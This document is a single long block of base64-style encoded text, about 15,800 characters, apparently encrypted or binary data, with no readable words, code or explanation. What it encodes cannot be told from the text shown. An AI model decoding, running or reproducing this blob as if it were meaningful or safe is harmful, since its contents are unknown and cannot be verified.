dRbM+uSWDlWm8i/XJn6Vov0roTg04zYzEv/BMD0M/OkPtW44+a8UJVDHQ1A+vm/MHShkbYXt4TFK+CbfEf1371BSz1PjRTPuxp5qgDUQe2TtLNnBsc6DLl7ee7J7CEWTQMwHtQaZvYwk+lhTUHWqTFvcyw3tvdtH2RfzmhZOKnBKlxFJGpToGg90IveIqUFrFGT1ii+7qNGpWYYJ8g/ECq2kEWA48Z6RZGeNKutK4LxOSyv/LlvtMnIrys0WQNAOGCpCaNe0mygcez9Mi/DAkmGU3exv5wWSSVkNZwXrGvQ4TQ0BrHebZ9JHh+4yGvjjP5zYy29CR3MSDSsbS+Vht53js/xij5Fs0bRWnWgDonuzpUqEhLqR2KythVCCUr+9ehXy8cwfus4SI22ezhQfXVeA6WaGpwHD3QUk2C78rvjZpvBwW626xm7HxfQ7O/8ehl0aqG5Nn1YMa+6vMYH6i0tjcJ+uk3d2Xrn6YHyvUkN9Yp6+SiBGkDYVZubCQdNr6ONeoocL8viebAIALqEVLJt2I7JULsThMYPZ3vgfJlW9bQfnX/y2GwTMMmMKFmi2vf5mX00w/IzTBJvHsPzYLJkLTj01HGAgw8QX/CmFv0kZOGRsOzdGd1uBH0Vlevr7oSyH53WvAjE0I4gZoHkGvorFPohSHvKb3NIkwBCKtMs0LHzYau9M2o9qOnQfx8Xnf7Xa67OscPdeFJNyBqDyqlbKDnUhSwx0LEleDsN3Rlgmthb5VyNCTCePJTmslbSLkpoVUrUVUkSudkb9KlWK3wlYr73+cHo8YMK7fvXoCkzj9GXwmTn6efOpCmAQVXvrizbSrKtRZPpQn3C4FkHfNX/l5NYXbD2h/mbprSqMPOb8kXUwihtch3rEAjZGNF8uaADFUU7L3KiZl/EZDj3XAPt6cb0KH4zTU1Hzzu1KFxqZkSrhzKJ+fq/HF5owZdlksn7VUaRHk6TCsUWTXE27iaNlmKvrEsgowGJfgYzZ+d5TIUGkIGNN9aN8uO7ERtbtBSpRM9IqKqnIuz2HVq/Od/R2DHFP0NK2htaKetXgg+nEoOXMB48G0+LEvbUqZW/8/eznKxzi6vGWvgeIO/w0iDa59R13TU8XdGzw4DjncVJ9LXBeEl3/9t3Ug2tbyZr4R8AlPET0V3VL727VqMDCfGXKVX4LBVekYFie7VA4A6aKXuY0jB6ffW2bZcwnp2jU4jVIUOiB5mvlgu6dD4OYbQXvpiIy0tsAIW3H9gpcFL9rHH/VAWX5H7WHEhBNV5+V9SRHYq+OHBWo4+Dp281RFzE3mX1CDzG6dm4q9fVdPT/CkCIoGOtAEwFmTQ9R3Q/jj/bjupvGQApsz9y4D67UidPGp/t2tG6CjEDpsa6pYFHagAxa/60KowGY1G9dB7SQlXH+wam9hZ8aPCPgctXGlgRVYnCW9dR8OKxZX+q2XT5NKgNxHg6NlUwUaHzcyRbn1OPJscWJsmra+XbW0nY3bluYUs+LqadkbFBFtfjBBgnxVIrYdEZoRec6CMcjh0nbdTDcBExMWXyNmZHb9IAhFPjo4e90XRAp2MxPSYCo8lK5xr1ipXRxrfgnal5yhOOyJqNNiTav37xQH4cr/qcAkPCH0m9RW0cCDq4PLPEqKlAzzrkaCRk9ECJU54eudTlExwHRIdYRNLlzRtmJmKYMa3W8IS6+twEYRBDoGN2lokZcTusLpjyJmVHwXQVuN03VbBLCVg7OiNgDXqdWL23Cwad7gKqVxansinbjtejemPnEtiU/lv1kNp/CuyRBS0Y2wwxkWoQqnXH8bSdBNYteugxI8oNYL8lymv9y56DZWLiY7Z5Fl1f3QlruKeOofafCE8DEA13Osy7Tzh0IBuw4aYBeLVFIW1h7jpFMPt/4TY43KvynrkFpstgOX0yPknUOwI1RKsL/Y/qAvnqqs7fTlZCCSqumf/Xoumi13W5xa6eQLY1N/w2OlhWW8NN2A/4Y5mt67/QoENgX1QVSWspl4f+FuzKj7nm82EraSPhimmqFTM/0K6YYiihlk9GjA3PCKS/W/Kby/lGtOrM4M2BEn/DsEd2ymVCxmy+q6xN+m/CpnNbT9LyeG2xM5QURcEmhuLrIYWy+Tod/NT8vtVUWrkwKYb0PiQhJN/QLJE01nBeAdYM124guoDnJN9Ql5KMFjou7VIZIZH2nxzrJo5JWRhU8Fb8FsHtM1qtvi2Hi3vRthyxC3nDdT/Lm12FWE/ZNaMbU4pWHy+o5IR5bU++shDib9T1jelg+93gN1fyNj1p6pcEBP/hxCQFBl5QT7LMcUKjcLeP3KeT6DjbFO5moCd5QhgHqTcHXU+WltnbEQzu1ogk1bI4UppMrDFLZwz9vB00RTvIFvpu65QRszErpjA+y+Y8labRkiT/nGuqbcTQz/UfiUpD5h0TyWVQ2zKAqYSGOqzNvzP3G/uslyUqxd4xf4p7Oii+3KfPS6nmXnMax9l4w++8dS8GunewOF3Srmr9PIFiGynKIrf0NfA/aa2zmpAj6K1f3Fa4U/7gDwuWik2+U26oLXQbi2O3VVBdU2P7as+93LjgA4aNipEaDaxfbk7g37WYb6Z+gdatVqIVWk3E6m7ySD8cCZ0QKuzma0DgJavRykjWf9DVXspbVLsqwwT0BBN/JcB8rMyzf7NL9n10cCkbDUq2xtKBYlIumLGfg6u8HQZcmt3iZcgfDCU7PlnQdNaTEvNBxVp3G2u9X1QbudkMKydWh+GxP/sGQoDWBdSDpo7wZ2vXPQs48WDjW1yh6Mzkv/sR4Woi5QUqbK1rerNr7jYiJCtxUVvTpSCRSC8uxrcQooU+Dn93af2lfsbchd5wvaLjW6LOY8c7hcIvkCHU0uu60jjSalSahEZFeF8O+OGFojh8bL3HCmvh4CV1sTnMDVduBiuFcI5bFhDWM/CeGzsR0Llk/kfjn2+8g6072x19aoHolEi/OCGnZfda2UbfIGCTovBvhFLEUh09Aq6eQ5vWrV/4IGoc+H8ErPcEDJfRKYt9sUl4Rc7bffILMgcqJyPgDJVFyAXhxIz9mD5VFwOFpxY4z347a6Gb2KMOXxEG/wAUJrwTIMzkTL35dkqM5uAsdZU9YqcX1OKCOENJVjL2Qrxz9ruNDeMAPbjaVripI05wyuXszcAN4P6RN1uReGCvl3XLpoLKTI6z1NJGqwP85HBvckojMgSTaBk6Wu77m/uS30779uKjo8DIviYBGseX3pNtcbqVPVIEjvGfE3kshTp5LUukA47Dmw3sH2v1gL3eIXE94uy7c3q8fVXpHg++wI8hUllFW5qUHoQHYxAMKPQqJealNDygsA3PTheSLRXWMjlu2Q3sVtNK82GMZxygu3srCIPwAwDo7s3O+c6n7PND8Yo89gA8bwRTmZD9tgHN/DvzydUnJG8Q0QDao4Bz4Z/ldBcoz8kOambW1WD2qKY0dOCG/6XaQDiU2hBlGv5O+zVGxD+kTgIVloABq0WrKBHx4lr/+MPC7nZzWYFYaMfy005KQPbAHtsbbapvLXqg0M57v7iC03qqmUSA2R2beSI33KKMXdd1oeAjOxLnCIMI+gGkuvBAzbl9vVF7LsUL8rfzbCE4++udCSq1KRAAYWVOuPTc577W6+Md/tssNfOW02a2MKgc8P4pCR0JfI947vv0Gd/cLHaDxs0mqvPDzH0O+uHVstWaWMGOSpO3xWsVVC9Av7bX9B93k6Rk/ueIdPj8ROYrNZw3IBZ8kOIiLnkuWlpp6w51EZW+Ed/hFzjEqmcy6dPYlCL34VrREE0r0au8NzoL1Wp9KAZibAtyXU3ko8hRWtSvPPxen1hT2qBWznsn+w1Y2wt3fBOrcUm9MOyf3zC61nybaSOTjmCVRm+YidvDCyWThPlRK532AaupM8GvABcsTb4yo0Dh+y3fM6mypa36j4Z11dZQRpgcld+vi+ITJur2WGYbMLv9rL+o6tjEiV0TbGSdkNXibYKBurL3keBIOLX9tW8z3kaRnv9Gr4qTtXqIma/4TDzdJUYcmTShkuGyfAnujFvwsdAzcYaOvBARena672b0qYfRKfPB1qqIkXT52hA+yuTyepl/xqUZmx4imf+rVzzby1mOjDmbV2yzuAStwxhAAqkcoo9/wprcSb7NePpX445TvTieVQChp9La8A5YIXWTloZdyeW8rCZym3s98xxcWayGzVJsRyym1ko4b/569uf/A2EXmvUYcRo1wuZOIUoP35B/8aPWpQ+pTWW44D4+2jlGDspf5oCHW68++WuE8LqxFy72hPtlVRRWRXRltVKL0zYHC1Rb1iskEgTH8m6inUpDzB2YBzPzv6QVf9uPLp3qtp47kuosbEUedvrZEmfYOlwl3arSt5FaDf39kdCo9HmCCygfPaEJLRP0K6wJEW1av44P/6bI0HQvx7nL7dK+2oG8jcJva6AyUZkiTlsXbCT5XsEW00cIxNVnuj8xIUrr3676NoXH5+ZHQGvBwpH2gNE5b28nyRKc81azl745QIlu/eT/WP6rnd3GEQILf5itR3UZg27YYLLDdXzFFRY4exRs4qZyMFZENGULfcWeM3IfNI5bRhYJgd/iznvnWw6gMJ36a0mDNu8UWg1eoEvXyme1Zd8d2g66C/Ec8XQIbRAQgm4rwOiXFKNR7R+EfxI9/woL2tLex085BJsPDtadQQLZEMrSTLeP0clm0ZHrxfPS+jnJmf9FTQrXqGJU36iRdLMag6B81oHbL0iIiAG7v1R/NRFGtF9cAYo0cp3dllu1dSrePFg3ju2AIuam8gpVEZOX8dRGUf/GIdiHQ9Y+wvts5nuqbzg7rcH3QJTM4ODxjpexQa3sbnG+sZXs2x2fqIOo5ZjUWOxoKEtgof5qx4ODGTOnxzFrdfpBRnjkh3ThhqQGYOMilX5wEVdtREvZqd4dP+Q0BbRdNRTD+5a7rr5km0AFWvTh4ReIqG2TeI9KeEr50eZqXEJ9kmtnPVVQmtwUTHUa8lbZw/NFL1f8Qcyol9+7tyijpDkzfPhiTG2bGd+uQSvheDch6n/hRUozsuecnV8HcGTsp+/PiwDBFbFuznKftLfLMQ10OdNvWs1/cCbv43UWh3ZgC06kUZgXQCACLWA97pmCLiDYDj9pAG8UGARchbYQVOtMB0lkyknYhO7cwHHKG6b10klZP68CyuVdBS6EQrfjHg677yeIuj31PjmY26MS0Gx4Wj+tfqQQzjxwfcIHxXbqriMlEMIKlEbFGTuuU+1vWS8Cy42J8VE5DSrlfzOY3kiP50uPsXq3zxFL/QnMk1eQKm2bYk9eD5oZN5g5i9iwFdccXNwDs1FRh0LPoyvUj6WE+Yat+MQZ+iVcuozKxs6e2kIu3swtV3oiVaRmvHVMBrb3zSHrrTKvCgvr4j+tSZBOhT4UEWFQ9Nr8beTWW26VG7nSNsQhxsomL6TbJzfpVaJoNh/9/SjpAThpFOPKdRYPjfO9sicJefNWuLiCf6lNy3AJY/Uk8DDsEFM3mrXVBACaC5JekqWxkAobXrYZLo99w27pL5VMucgu1wTuSsqMnvtqrl0wLs58t813+gGV6sgZQ9iL7Reb2eHuHiD3Ah8sxE9SYVa9GSNMEPZ0m+IXQ/dNQd8duJQLpf1slSEs7wZpn294E1lpgxwesbaAx2d0tWKyBuv4iJEy8rVD7E4tAdSsD3ke5y8QNCPbh/6/wREv+Fb1/lew3PM4udCF3WFFXyHrgP6QcPoVIaMXbC0Dd1BmlA0lkWKpAo5ptQbVqVKsjvIs+F85LViL05A8N0yeM8w5/4IjKIX4SvfTt9h8TIoF3p3aV1wTM4v7F7OMXHuzXhrmsQgLOQzQUJOZE4xj5YbNsb1+a5hpTfNol7q+bHlLKfEwN+fHusg+4fxf8U1OfwIA7flka2sA1D9pjhA3Qo+81n4jLhZ+b/Yo6arrW9l35COy8kHdLoXJk8V2c2H8FsJy1nqLXtnryCJ1Xlg9a/37b8e4imKEkJ+hetCJ0mhcObiMmaOrn+P7ggiGBAr7btPGWRe2CaxGymV16pU030lHd4JF8yBGObEKs1tnW0Lhu9DQHKYjdV3K8QR62HCXayCLJ+i9RnXvR0Mf6KO6yvW+0vfe43jNd7XKw9WefhVvkV7Is4LRBVA760y2ZlyvNNyTu1lILGH6rkngpikBMNxHN977CG7bBJM+4xzQAHAaRr+iyBJuLWGT1z7aBiaMXWKImIL8geMTmF9HPI29q6edtVDeke+rW6Iw61aIBQw+68dDR9ElNczcvc1o3ysfse48M674h+/5sOe5K7SuR0aSf9YytXSqEKYyNol7JyHdwVj8TdM2OQkEWUyTaX++ZtBjEiBW+PynZGpnyQPtS0tw+Gr3SV/5l4Yawxf/G9l5ikiV+vssK/mSvlh5/8Tfax2MrwcRq9HvnUyAC9l7dgcyCdzIlDEnakXwkoBNuEBocXtQigXk1FVug6WfKi0DYXBcMMqJUVsOCRoN8q7WYxoa7U9sVXVS2ZCLdlCVwCyn/6Ir9XNZJ+lhb4ZEELlvzuJ2kFx8DjKCdg51f4Im3VNKsMthB/FCtBN7dV8tYsDe4v4la5e99lD02gvbMAA1cU/0Lm4klVDWngNLfTG/rk2215edXAt4/NSHofD6lEKBvL7gJxq0c5VRcQ0YJySmvP2tavAgGaPlnDgSJjpEyDLOnE2G6oTazGhsGDVALKH5PjDc6tBlwxa8b7qD2pJym1b5FUerE9UWo3nswVx1gsVMK9I27PnYgRlo58IdBCNNpRTGH2OkG6kXmjoHQV6WM0dq0vO9su4LaRGHuo23EotAPiRJ9Q2ybI9TJPONXn3JjJrxyt3EHcNnTshNmh+9n6d7E+R+6RxsX6Y5yFQS3KSHG4xvJ9+djz2hb+WqDWdELaXBQKzX0jvNJjDW6c6Ze2aiHtDRG7fH1ArjToDkbgbAOIqhsU8vARDI1c4fZ/B6vlggu66ycXGAkQTspN7zxo6Z33m58j5QNa9ztmAhBWWztXqPNIRnqS4BwP+Er6gLOKdyPj4S+OpDb6ExnkXlP6FrtTQXchfFwSfvd+yl3CgtQb+JE7CJgOp4ySLYAY3xbY1YTCZxjPXlWpwVmiMUP7hSkEKs9eDkQ8lL+o6AuP0OxARm5a6oS1gUoOpHeMQqyo2qQb6ZxZdbjjzvIrZ/QcnP79PU5hIYStg00VAnr0fDrz8LZHf+ho1nJsQxAVm7uL4xyZSZXCgxZnoe7LkyGfqJHGFX2VcOOJ1Zyq57ztrFuh0eVECXivZ4R+SFEkK2HBsp4KDW343k6uL5m+QfZ1SkWH+AsfUwgxigMbDe9Eo6RjiQgBLU1/YA0/wGlx5v/L+OkJp8jSTy0VL+jOBVVePzWJmNdcj1jNUMMf7jdck86fexYrPpmUDUhfswXB3VfMOCc8LIgeBAD19q/1IbJCUnm60u18DFqItOp/1XdyNsfhtISS0N2QKsDZ94UagGf5YYyA5ZcZydieFfSeEQilEYgP85ozykbxfiEOp/GoApfNrSDEimyNj7kYls8aPQnlq+OtCpAJE5rgzYxdURXJIAAsluI68g5OOQpqDfjstauZ5ybr+KYmo91d1cq4a2nNIuKYeJvdhkDfaloz/z7Is0lpQGsnmDLv7xm9flnPBa363YcUeykwuG3zKecw7l6wVMKyRTfUJuOAJOzhz2kboeaC7bTL4D0HQ424w43uLBuLyGVJOcCKzTLJW7FisuefEZvix/+UoDJr0qnA0otFUuFVozeKunU2Ymly1TfyBBzKcG9Tx2OJQNvGonKaxcm7KxN663MFNsKyOYVAdgLEjmjK9c+WgSqq1agQiD7mjz6FbUEgtvpZpPYP2Mlq93Df/AWAxqY+jaL68HnVI1aqjfvJsa/1j9Zo5LLs+L+1I4tLC3cFXpoZ70IpC31A39MSfelLcSN+2QXqSx0NYpBH7XoyarQK/q4g4vqrzgRf9Q69Ib81swe8W37UskNvXHrRaf2PR0kpcZh+a+j6i48uENsEN4U10q1tGSbD5247Qd+qaagQZ5j0sefZ7G10sPAdl71NBHHt8Aq4lmHwhfh4l0jREUsIADvkw3cJXEoMGwkNJyqJXVcRdKoDUUCPqLBbTwnW4zLTKyhyZ8MdnkfSsEc22lyjHgHxpgi1Gx84Uz+qL9pNH0DRA0ZhFVgdCFrDSYs2ZgtA3G3fGj6s2iImWu+aWhn2+m6q2ewAkMj3ApVKLhp/bYdNvNqWGFBEv3XMyGLXctKisn1RrvY4bnML5qgmQ1+4jVX3l5RaJlnaHD+Lt5WtH/23kHLhFQOsVorwTVhGa2WrL/S/pnTnL1KfQU8lEBa6DJatsbL2UziESmtXjk0bGXkI+1huEeWnDNp7n0htXgxbVffv5biAZ4RjBXmRD11tOj2prC91J7AqeMS61toK9i0wDgOlIclnmIarIVdxTNDxCMN6Yhqw9wSfrDWcC3lfPnN46fdKTS3EjjYao2THox0eHGG+4SkfK0jPlb8hX+UXFHaDIjzP/m1C1NSaf2ALPjQCo8aJmnBLHyqgGBj1uKUacDdA3U5O+12GJf7/ZmmTSFsoHc4eqyEaL8rthA5bFdWb+9ooFRCyx8H+PB5Mar//KUETLvCy7UK9CgcOIEkvpoqAkL3C2eaNj6OG82Ir56U1KEBOftvOKvr3rMp8QhMJCV8ZgnXv92kM42LKqKngBIMkvIgCcbsB8DZotO9+r71nxjwCISOnjJ0ZkG9eiWZWwpmL7tatGktswZ9i7vJrgbWwAtWX8D1GlKicXg9zwr/oS7lMyfo315UXLO69xSNOoMccyIO2Ci7TIuxJ6vFLqWCdPgJiE8aGT9IDbYnGBoq6seJyPwR2NPKm+K6EuwNmuOYS5yD3j47UyQyqn9si0Lzty5x4YVYE0QtCJ67DvKL27UHAktwfJ80HV3JHP6uMwu+MNE9jmgUzEkAPQN2YhFO4jWRsgEafGhC/3yKaZEWYN9aMznXY3rOhIFj8JlyxKUuelPiS58mxg+4O9nNaqrRQsda3n/l+nw2j1PfV+I5MX0muK5gv6WdysrjjyldduxA+BTNnmkzHkkn/quleoLqFjJQjUeU+E9zU4SUZNcfhSRmMj5x/HBKdlw8206Tc0yg99hx+MOx7uvaFdmrqW/ozNvS72C+eFs4zJo561i8Q6s641tMWtE+wTRaiVly2HEWf0j7jkXK0rHnd+lStq8mxUJHIxY5dFm64b0FTJNx1Wa8B+U1LCr2QxgudlJOK+GBPQOo7RYHhIhbxdPen3uM/AlNWRi8nDMwwNEO6TD1p9lXTBmKeb3eUFwmVOYPqBt8qfrnsG1QmmxaMYGbrCd34aU77sERJ1stKBbocmNQfT3ieZCl2O1gzIHfH1nXi8T0C55PIDAAH3rq8BoM5+BTVL6PhE0ZD73IVzUmUc7p3BVCWzqgiKGjG4/evBOSGYUYqpdBF6U1svGM3362oyxuYC9UBe9GTGbjRep53GNIPXQyiwbLHN1aD5ud7izPEPBtoX3yRb/LUvypU3/Bq78QCfUEd6150pfOOoNQt5isDDRG4VHN5caPgnBx3NsD/zap+wg4Y+NaJVHh8FN4MGzOEq33GaE2O1kuAAzhr0uhfjCDD/ip0+8EVC96j17kkz2th6fT6HTQ54AiSD93lTTP2A4nM4jLYcAXwikcwqg/My8FNc+wdlW/JuGaoAEbutGgVl+A2YJRd/AkMAR+mYi2a6shv89IpcBjtE/mtW1L3KVlQxNrJ7KdY9p4j+lIed9W0kgKEmSc1vtKuGYhe/KO5GVV13UvwUK9EeDjq0S1Ckd8aULSZtGj9H99LYdiN7a4y3bvjYMblAXiOlpQmffO7Sr0eRumEnXN2g6dHw3NqsznR5MQGgrx51LQYWMHZVFovikhNb1SqASCtVFg3tSFpQVi81Rg6O5UfRxnJ/hIpBWKS94lRuQfMuLzk/jtuob/2Jou6azRjNq2C++VfmQIgRpak0TT3LhI1gSjwZccGrDgt0uZcMa5WWmNlBnreRdzptKbyUTBUXKVsuqBKM70gdBvPgrDbsKR+Qnut14S5KQLvUjquSOVz31fjC+QPKMi284wX2Up7jLJ53OGhS7mJzEjws/xufTbDErhAFHZJOeSlDsgvwoJ+XmeUvWmwJK2CwajuUpeI2Xe81+k5tW3hLA9gbqzL/ZxLV7vFT11fapDvwnKb7Rz/9wbf7VvO1GGwqQLaR890MzXNHhBI8NH1gn7uwU+iZT5r+4IFl2mEi9COlEs1fFCYQdjgtcsLcRd7RMFcwjCvH/8ZUBDLKcQOfUCUS7aEr664Nv3hbEBtkJ5S9jhMAuKSxAgB9MU91A1qTG/OcdJLQhQwZkIrm7OoRkoqw7XGUiaOri2P5GmcAzCk95t+G9oQ/g05wAQ3DK2v0k4ypYhdzIs08Oaht7z7vKZ7l2KRbanYAWmqyNCjur1hsv9nMGS2WA2G6MrDZD+hFBQ9Zba4TY+4O1LBdH4DpihHEea5NI23ezsX+heB7gaJ2OVHwpscin3z47RUAktl0t+1vOpIynVc71I9V1shPWGJh7O5xfQ7n0xnKAVu0SWpuqLgjYelXlzpT9Y4a5qc89BJX7VjqF81gzazXFj8l0RdY3QnxjPE3NPAd6bpA5qjvxuap2OfE5nMQDcIJNiOBuLdFs7MUMxi91FF2rot3I7pHc5BakUCFdy6tkj9yOuic5U8CR3ShlwvoAyLWhlRB6mMn021J2bJC9USjcSZcRud1BU4SWoAquwUyf+M/rG7NCFgcc3Qey7xuBx68BJzJjLTwH9S9KxK5Do3ESwACdLmf7ahZg9FyDs2T7S5QVW89Ipx49ORkzEuMtuNdvKIqykWhCJoul91SllyCVrCLJjqH36pLQhPu0DHT0seRhw0TwoguyCyvua5Lli5g0Co9FpmO4vdvmlfyW9QXHTrZ6MC6bL6+AaOCHd4ihcsvKm8AZTwowwSLjfLcT6QuNABy6dnR2DZ33no4boM60N0esnbhyVsjSzSUBQGVsXnb+v9JjzE/iMnbWS0aiyM8S7UIOIF0qs7uQt/kIY8gW1ESpsZsSwqHW7pFl8QRPuETCKMxMuxXkw9yA9O+wpcrdjDGMSMeEN7fdGIjrwEWvcqe0LQ++I4u9OPhYApnIVMpANn6H+6QyaFERfCcJ8oDzjcIhtN16a9pctoBo8A9ufkOmVKOAHiJRyxM8XgtKWHuny+fUNNSo269DHZUrOlNf1sJkrjVPAQhF5aR4LaWNynvUbH80L0tRiKoyAUgdNXG8LXXJAzYK9gewjw8TAJXDxf9XGYlDe9bQNzn34ccLaxGR29r/jhT/hBhOjABCp2UECmCic4gySovZEIzkVuGt9N5KY6Sh3ZOor1ncgPQJJBqlboiQfbh1WMw8G57q9N2EP0l9RsTr3/PEMNq+U1lfAx16dLM/8L44bv75kFjGGV2uNLzbWnuGhLM/kRZh96TaJJtmkd1lzFALIvFDQSiv9nn5myJmK4F10cw2/vOCVc3tXLK/M2YdFamBtZVSw84y3pYK/9hMx7uO0RIHQU+p9MIktMTe9nWkHdcT8uxC6hO9STBg+WGl0qH195S/jsuby8AnaNijK3eGzRc/VH74EoMlqvo+BzhugNk+D+1TNKF/OUg+jb20Nf7hFw3ifbjDtptdUHxfdABUiNsOgzXWfEfkRmH2aP//wg3gjslpIygIxZNjrYia2EEeQ6Y1sGKaGouZ6OjbYbYgnNGzHgfcK1Ut4ant29r3n9zjPOBW8yi+y3kc/tADa/8qIyAoG739RhvKkdo376cCWKwTR6Pt32hyarCgLiepJWVMpV/H+46UfbsSdCj9HYHAwkMexsacjeUfrzgkO9siJBXEPOrch31oDJaliRqEdsEDf5HJ8wTzQIjFfQ/wnJC5ChavPlvasJj7Zejd0LXhfVvDZCDRKm5RoJ4J0cO05IjG9BEmf9rS0MpLfFGiK9BGHCefNLkkqP2dvM1nKXQk9ctJMroWcPhdm6Tas4Vb6Blx8ckViFOv6PJ9E/KP7sjXedg35bJaCAUJ5EovZgLNsoowjeo+9PmUZxt6LWF1gvNqUirnB5RCKhad+GFUEA9nsKPXlKxeTuQPFL3g26UsTr6eYYsLcVuH2sFP9ufQw0PcFB8Tuok7fBTcao/GJCTwlTP9HrE2ZDyLg+Lo22UgXYwSOZWW1w4wMfnV+Y+qQTwRmkGMbUhaT5Zh2ZOOM2JGUh28JD7Xw3fJwudsd0pQMMwjZE3d9bcoiphdgEs1kDkwuZUhQSWo/yo+MOCcycZS/NjdUyaPrFZmWzYl4cbtf6u6DHPYXRO37/njUK+JhMt7A3/9yNHaglw0rpYLuUr1ny20M8IAJRgW2QOXawrlIgygOTq766bS7pHOzNowb7mChMKVHRHv9pLABNHY5v3wxgQUB1TBSciLGdtgkK33ns+5ppM2sBzSGV0uMhxLWUJQobDS+qQui7aGigpUwom743AJyULCkXgADFcsouveyAY036qiUq5xDuaLIphzQaeVgDZCj9XWcGoa73NpntTH7FOLGy4zqZMSb3W02dgyjbu4ZFzxoZmR7zuGwCg3A6hO2XVfeSGbQQgWjRI8KBCZBSGV/rKhvjiafYn67jJLtKvY8/f2kIoLhdOv7eHenC12ihMj0zNQI89sZeX6gKzbkbWB6QGW3cZocg1ZQAZCNz2w2w+QkoCAEa80gCBzkHJoLtSqEEjhDnkTkwKBItvPA/aCF3a0DmJ51mjcGUtf1hJZc6eTwZC+HVSsaL9L82YsJItvCS5oqJ/lvWlIUn+OtyR+Ftww1vJmO97AM6CA0BRkB1VKwGH27mT2v+YbFycjLhASQ3F4vJabmTHbPsdg7olNAMg2iuSHequLbv4wMfbMLhJZHmuk0U7HOUhO14l6vaHvYNI/t1E4qpWlfmT1mIFpfRz4fc/MUXLWg/znKEV47mTyxuh56j1CFoyxJukZirdeeTVCjiXodL4pu9wlpquMdFerOj0AMElpKpWkUzx/XZBvO/FL/bu2C8JbEEguThVQpmQg6VCSIdQiCXCiZBjfVVlYY4oMxs9cbxbhtUTX+YMFkmmKNHsPO+L6ki5S/xPkmYF7cw1Hrr1b17fYEEVd6sUnid2vNTo9LIN++lYO4oe5FqwYQpGX+ixmsZGSivQZp4GeTEVlyLPnJxeS2MnfCDKV8E1kPtI0i4wt5H5zgyD5qV78Z4uKg8BXADtJmd8r/XMtJ/jfoyOL1kWbht6mSuZXJL3PRCeBNTFtctRkD+2wnvYkVVWPmTZ7XojSduoY8IcY04jHbZmKwdQDGZR+90UNOvtttZjJ2RhdH4nZLqqSxr+wuT4XLGuuy3gP0F4GN6r8p6t78I0/qg+Ok+vPI+y4tIWHRqxGjff0yclkdqms5A3ZRDij8myUmRPGQLfgbxReKRghlU4xInHiSi2RzmApAHWfj+Tn5eKPM8rW1qyCysCpYyLDvSPaG0fT3u4F4TcQ0UqHO69/yd93IciGbXHOMJGYHddCjuslPuXw+2Xsk6iLJ8D5DFVAuPMBzT1nnpNC4zSXcluN1OmG2PNhNtb4beRtA8nLQxTCml8T2oDquR+LNMxZmiNmN+tc/w+j7X7BRzPCxtvUFk9uh5gF5oZ/5jAegTXFnCGkPdJLToNefrg3DB92GH9wewhoH9+ElgPeqePy4G1Ruv1FvaLJKob3zMs6AbPee/7/8kYF4h5JVK5R/wFrhz7LuSgKJ1q/O3jfByfJ1O0NdhvIfOsEYZMsoXqn1IUqMt6hrM4+HJlg5doO68WPtQXvABt+8L1nJQZG1w7UF//lNq3Goyna5X5YDbjYvDBplNgPwwPRTNIOAcEv9Y6b4F8uBjQVjNlN+nIGPI8TQvI9o0JDPqfpM1g1U7sNmBi+xkg0v/5jjY33BZrgFVnHj6ZZVyT7IgqIEGU0YRDBuj09JAkkSVAmA4816UldINKGbG6OSGpErMvpVVNwfzLjq83EzdyO8oh90CJ6qU7mS9rrZG8REwN3y898wMbvb90UdDcnRHHv7LSiIJZBTihVbgXxvqsclL1ubC6VkeAQn964LnORFh9LOlzVgWq7m/4zFeVsact4oocy8Pa811BSgMyrh8tmXM2TiTxsjk25aRtaBFJO1mRNzSE6gib4HRALS5ColiMroybdzmNi15/a3CXreld7OMtfUMazVcb9pCOMnYMz5tqThzA5MvLQ51hs8EEtnA2ky0mFPv+Rtn0TRu30br/vVBhuGENBrTtsmyP+DqPgVcLyFCzSwbB0+5BElrU0W6N1sV0arGj185ELAxiqZr4Y1wnhTBlVFHRKbJ2sCF/t/rNVveQt5pO8mtU5WCxu8n+7bSyzp0erzWsnivJRrBDqruvQ4yVgYBSFCX7TVQVwpWDJBZB3VrPvRT6YZ6iElrtql1Ed+gek+eg6EMRNyjLuoiWCYjLTU/A88rntUwBeWOrTa5vu/Nskb2SyxwnK/9pR4OI/Ss3LDzoDpDuYvUH8sf7ugYd2bME8B4I4LTItxe6ScbPfnmnVWVtJfLIulif3D8qfOPUSdr8M/xLxXFvEwtyrbeZqT3Sg0tAQvvbWReXOga0nS88PzARNDROhs1HFn87dTBMoxc4DpAWRHWJo23NHfd74jXJLG0F2wV965HoKQexeVTJs1Y8PLd8HP4zxwdKyZFlKrW9hmD1HylCVj9njvJhfnAu9ZfYlnR1gASjrVN3gsF8FARIrz+qOtGhciFHTC9aYihCJpN733WpZsCvVhiRcCvFuhscf5Vw8MmdOIONMweQvV3FPcGXty8n0Yp/HMTwyt2MnUwEJl3kOO5Cn0J1aygjRnZ3/7uLtjuENi8TLN7rPoXBwCaJo7bCr5mrgVRlabYbAHRLhour/b6j4Q8v/KQ4XlMEfdUg6GB1f01/2vFclN5QhsNDhI0RPFpAZzLr/NPqH8cXynMR5Xn83Dz7bK3qlSAvJlzzGrkoduSayr9wmTQFvlau8qvUYwu6usbhg+ALEkWDuCQcmin5rgX7win2GuO9f+P6kNkq+E9H85EIzojLX4dvyhgjN9Oy5GqBW/BXm81zZFWzICts/aiF3D3S6VQufCwXKHN3QdFFYkRfG4U4QTOAcsFCOelbwjmUefzDUYuDHuxRUrPDkTdfnW3fBdUJhP82JrviBTYoCCXwMreCg3bcd9xSNEblkHlDgkD1CXSAZjzsMAcia3F0XhdE5igrr0VmnajAZeg+5YsythjUNVVVD/mh7SWtzJDrknfAls7R2JprkhkC0KvfEPDDaeb+QBi+nhK6bEUADLG/aROVajGzp05AQaK9EOlkAPvu/T8ENj+XT0zQn6PKFAqJae0T7869G66NlIZjSSlWVrjur9UU58tj1fC6MdS85K4mgTAmPbJTek6KiGNA/ATfQmShcvtMe7R6Lo2Uxlpb7gBJXYnlOFPsCfbgI78DhLS/SCSoZwSjSA4LDvYKv6gck5i12iluEtppsaial6PJOr/yTwZsaLTV8c67DA7/vJsI+30Mkp9kEyb2jj44b5c5Acg52AJ59HLEe6wgOkLV+ODVx58i1s80P6bDUh6eUW9oAFxZJshyUQajRnrbLR7RN2t6/1+AC0iwvUFysoGys+7ewOXoTpFVTAZ+DahOBDNoYzSl02FmlHloFpRzbFAXJg5SgaS8dpnyoNQ56x0yVKR8vDr+3WX6DM9KXytFF6KB6RsHxGrLjFpFXS8WrN8GbSfogTYwQMJ77S3H6PTMCH0DA+DWQOWvPEbsJeXqiQ5JE62tLw/pJ1lRT+ku8y1pHBcLjo//huUYOFhr3jAoMUljNMiciLCDISki2ymBWT